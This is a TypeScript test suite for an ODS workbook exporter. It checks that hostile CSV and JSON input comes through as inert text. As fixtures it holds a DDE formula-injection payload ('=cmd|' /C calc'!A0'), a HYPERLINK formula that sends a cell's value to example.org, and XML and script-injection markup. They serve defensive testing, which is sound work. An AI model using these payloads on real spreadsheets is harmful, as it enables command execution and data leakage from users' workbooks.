/** What stands in the files of a user is text in a workbook, whatever it looks like. */
import { spawnSync } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Element } from '@xmldom/xmldom';
import * as fc from 'fast-check';
import { readOds } from 'hucre/ods';
import { describe, expect, test } from 'vitest';
import { validateXML } from 'xmllint-wasm';
import { cellText } from '../../../src/report/ods/content.js';
import { escapeXml } from '../../../src/report/xml.js';
import { distinctNames, tabName } from '../../../src/model/worksheet.js';
import { makeVisible } from '../../../src/words/visible.js';
import { folderWith } from '../../folder.js';
import { elements, parseXml, workbook, type Read } from '../../ods.js';
import { run } from '../../run.js';
import { runs } from '../../runs.js';

const formula = '=HYPERLINK("http://example.org/?"&A1,"click")';
const markup = '</text:p></table:table-cell>]]><script>alert(1)</script>&#x3d;&amp;';
const control = 'a\u0000b\u0007c\u001b[31md\u009be\ufffef\uffffg\u202eh\u200bi';
const spaces = '  two  and three   ';

/** A sheet whose title, reason, column, groups and wording are all hostile. */
async function hostile(): Promise<Read> {
  const folder = folderWith({
    'x.csv': [
      `case_id,"=cmd|' /C calc'!A0 ${control.replace('\u0000', '')}",2.2.1,2.2.2,2.2.3,"2.2b ${markup}"`,
      ...Array.from({ length: 12 }, (_, i) => `SECRET-${i},${i % 2 === 0 ? '+1+1' : '@SUM(1)'},yes,no,yes,yes`),
    ].join('\n'),
    'x.inspection.json': JSON.stringify({
      title: formula,
      region: `-1+1${markup}`,
      judgements: { '1.2': { rating: 'Good', reason: control }, '1.4': { rating: 'Good', reason: `'${spaces}` } },
    }),
  });
  const by = `=cmd|' /C calc'!A0 ${control.replace('\u0000', '')}`;
  return workbook([join(folder, 'x.csv'), '--by', by]);
}

describe('a hostile file', async () => {
  const book = await hostile();
  const cells = elements(parseXml(book.content), 'table:table-cell');
  const texts = book.sheets.flatMap(({ above, header, rows }) => [...above, ...header, ...rows.flat()]).map(String);

  test('gives no formula: every cell is a string or a number', () => {
    expect(book.content).not.toContain('table:formula');
    expect(new Set(cells.map((cell) => cell.getAttribute('office:value-type')))).toEqual(new Set(['string', 'float']));
    expect(cells.filter((cell) => /^[=+@-]/.test(cell.textContent ?? '')).map((cell) => cell.textContent)).toEqual(
      expect.arrayContaining(['+1+1', '@SUM(1)']),
    );
  });

  test('gives no cell that another reader takes for a formula', async () => {
    const { sheets } = await readOds(book.bytes);
    const formulas = sheets.flatMap(({ cells: found }) =>
      [...(found?.values() ?? [])].filter((cell) => 'formula' in cell),
    );
    expect(formulas).toEqual([]);
  });

  test('is well-formed XML', async () => {
    const { errors } = await validateXML({ xml: book.content, normalization: 'c14n' });
    expect(errors).toEqual([]);
  });

  test('shows its text as it is', () => {
    expect(texts).toContain(formula);
    expect(texts).toContain(`-1+1${markup}`);
    expect(texts).toContain(markup);
    expect(texts.filter((text) => text.includes(`'${spaces.trimEnd()}`))).not.toEqual([]);
  });

  test('shows what steers, hides or cannot be held by XML as an escape', () => {
    const shown = 'a\\0b\\u0007c\\u001b[31md\\u009be\\ufffef\\uffffg\\u202eh\\u200bi';
    expect(texts.filter((text) => text.includes(shown))).not.toEqual([]);
    expect(book.content).not.toMatch(/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\ufffe\uffff]/);
  });

  test('adds no element and no link to the worksheets', () => {
    expect(elements(parseXml(book.content), 'script')).toEqual([]);
    const links = elements(parseXml(book.content), 'text:a').map((link) => link.getAttribute('xlink:href') ?? '');
    expect(links.filter((link) => !/^#[\p{L}\p{N}_]+\.A1$/u.test(link))).toEqual([]);
  });

  test('has tabs that every program takes', () => {
    expect(book.sheets.map(({ name }) => name).filter((name) => name.startsWith('By_'))).toEqual([
      'By_cmd_C_calc_A0_ab_u0007c_u001',
    ]);
  });

  test('names no case', () => {
    expect(book.entries.map(({ text }) => text).join('')).not.toContain('SECRET');
  });
});

/** Letters of every kind, and more often those that mean something to XML. */
const letter = fc.oneof(
  fc.constantFrom(' ', '<', '>', '&', '"', ']', '\u0000', '\ufffe', '\uffff', '\ud800', '\udc00'),
  fc.integer({ min: 0, max: 0x10ffff }).map((code) => String.fromCodePoint(code)),
);

test('text comes through XML as it went in, but for what has to be made visible', () => {
  fc.assert(
    fc.property(fc.string({ unit: letter, maxLength: 40 }), (text) => {
      const root = parseXml(`<text:p xmlns:text="t" a="${escapeXml(text)}">${cellText(text)}</text:p>`);
      const seen = makeVisible(text).replace(/[\ufffe\uffff]/g, (c) => `\\u${c.charCodeAt(0).toString(16)}`);
      const spaced = Array.from(root.childNodes).map((node) =>
        node.nodeName === 'text:s' ? ' '.repeat(Number((node as Element).getAttribute('text:c'))) : node.nodeValue,
      );
      expect(root.getAttribute('a')).toBe(seen);
      expect(spaced.join('')).toBe(seen);
    }),
    runs(100),
  );
});

test('a cell never holds more than spreadsheets can', async () => {
  const sheet = `case,2.2.1,2.2.2,2.2.3,2.2b ${'long '.repeat(20_000)}\nC1,yes,yes,yes,yes\n`;
  const book = await workbook(['-'], { stdin: sheet });
  const lengths = book.sheets.flatMap(({ rows }) => rows.flat()).map((value) => String(value).length);
  expect(Math.max(...lengths)).toBe(32_001);
});

test('a title of any length is printed at a scale that can be read', async () => {
  const folder = folderWith({
    'x.csv': 'case,2.2.1,2.2.2,2.2.3\nC1,yes,yes,yes\n',
    'x.inspection.json': JSON.stringify({ title: 'long '.repeat(2000) }),
  });
  const book = await workbook([join(folder, 'x.csv')]);
  const scales = [...book.content.matchAll(/style:master-page-name="Page_(\d+)"/g)].map(([, scale]) => Number(scale));
  expect(Math.min(...scales)).toBe(20);
});

test('a question that is headed by its code alone has a mark for its words', async () => {
  const rows = Array.from({ length: 12 }, (_, i) => `C${i},PO,yes,yes,yes,${i % 2 === 0 ? 'yes' : 'no'}`).join('\n');
  const sheet = `case,grade,2.2.1,2.2.2,2.2.3,2.2b\n${rows}\n`;
  const book = await workbook(['-', '--by', 'grade', '--questions', '2.2b'], { stdin: sheet });
  expect(book.sheet('Supporting_questions').rows[0]?.[3]).toBe('[x]');
  expect(book.sheet('By_grade').rows.map((row) => row[1])).toEqual(['[x]', '[x]']);
});

test('tabs are told apart whatever the columns are called', () => {
  fc.assert(
    fc.property(fc.array(fc.string({ unit: letter, maxLength: 50 })), (columns) => {
      const names = distinctNames(columns.map((column) => tabName(makeVisible(`By ${column}`))));
      expect(names.filter((name) => !/^By[\p{L}\p{N}_]*$/u.test(name) || name.length > 31)).toEqual([]);
      expect(new Set(names.map((name) => name.toLowerCase())).size).toBe(names.length);
    }),
    runs(100),
  );
});

test('columns of a sheet that are called like those of the table keep a header of their own', async () => {
  const rows = Array.from({ length: 20 }, (_, i) => `C${i},yes,no,yes,${i % 2},${i % 2}`);
  const sheet = ['case_id,2.2.1,2.2.2,2.2.3,Question,cases', ...rows].join('\n');
  const book = await workbook(['-', '--by', 'Question', '--by', 'cases'], { stdin: sheet });
  expect(book.sheet('By_Question').header.slice(0, 4)).toEqual(['Question', 'Wording', 'Question_2', 'Cases']);
  expect(book.sheets.map(({ name }) => name)).toContain('By_cases');
});

describe('the same result is the same bytes', () => {
  const sheet = 'samples/redcar-cleveland-middlesbrough-2022.csv';
  const argv = ['bin/casescore.js', 'score', sheet, '--by', 'grade', '--stability', '--format', 'ods'];
  const bytes = (env: Readonly<Record<string, string>>) =>
    spawnSync(process.execPath, argv, { env: { ...process.env, ...env } }).stdout;

  test('in any zone, any language, and whenever it is made', { timeout: 60_000 }, () => {
    const first = bytes({ TZ: 'UTC' });
    expect(first.length).toBeGreaterThan(5000);
    for (const TZ of ['America/Los_Angeles', 'Pacific/Kiritimati', 'Africa/Monrovia']) {
      expect(bytes({ TZ, LANG: 'de_DE.UTF-8' }).equals(first), `in ${TZ}`).toBe(true);
    }
  });

  test('through a pipe and in a file', { timeout: 60_000 }, () => {
    const file = join(folderWith({}), 'x.ods');
    expect(spawnSync(process.execPath, [...argv, '-o', file]).status).toBe(0);
    expect(readFileSync(file).equals(bytes({}))).toBe(true);
  });
});

describe('is refused, with nothing printed', () => {
  const sheet = 'case,grade,2.2.1,2.2.2,2.2.3\nC1,PO,yes,yes,no\n';
  const refused = (argv: readonly string[], columns?: number) =>
    run(['score', '-', ...argv, '--format', 'ods'], { stdin: sheet, ...(columns === undefined ? {} : { columns }) });

  test.each([
    [
      ['--list', '2.2.3=no'],
      '--list and --format ods cannot go together. A workbook is made to be published and names no case: take text or JSON.',
    ],
    [
      ['--explain'],
      '--explain and --format ods cannot go together. Its steps are prose: take text or HTML. A workbook has the reasons of each rating.',
    ],
    [['--ascii'], '--ascii and --format ods cannot go together. It is for the report in a terminal.'],
    [
      ['--eligible-cases', '85'],
      '--eligible-cases and --format ods cannot go together. A workbook tells of them with --stability: add it.',
    ],
  ])('%s', async (argv, message) => {
    expect(await refused(argv)).toEqual({ stdout: '', stderr: `${message}\n`, code: 2 });
  });

  test('under the name of another kind of file', async () => {
    const message =
      '--format ods and -o x.xlsx cannot go together. A file of that name would be taken for another kind of file: choose a name that ends in .ods.\n';
    expect(await refused(['-o', 'x.xlsx'])).toEqual({ stdout: '', stderr: message, code: 2 });
  });

  test('a terminal to write it to', async () => {
    const message = 'an ODS workbook cannot be read on a terminal. Write it to a file: -o FILE.ods\n';
    expect(await refused([], 80)).toEqual({ stdout: '', stderr: message, code: 2 });
  });

  test('a workbook of many sheets, which batch does not make', async () => {
    const { stdout, stderr, code } = await run(['batch', 'samples', '--format', 'ods']);
    expect({ stdout, code }).toEqual({ stdout: '', code: 2 });
    expect(stderr).toContain('Allowed choices are text, csv, json, jsonl, markdown');
  });
});
